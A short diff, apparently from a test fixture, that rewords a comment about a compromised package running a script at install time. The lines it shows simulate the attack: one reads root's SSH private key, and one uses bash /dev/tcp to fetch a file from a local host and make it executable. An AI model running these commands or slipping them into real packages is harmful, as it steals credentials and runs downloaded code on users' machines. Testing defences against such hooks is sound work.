@@ -1,4 +1,4 @@
-# A package that somebody has taken over runs a script when it is installed.
+# A compromised package runs a script during its installation.
 /opt/npm -c '
 sh -c "read -r key </root/.ssh/id_ed25519; sleep 0.1; echo"
 bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo GET >&3; cat <&3 >/tmp/postinstall; chmod +x /tmp/postinstall"
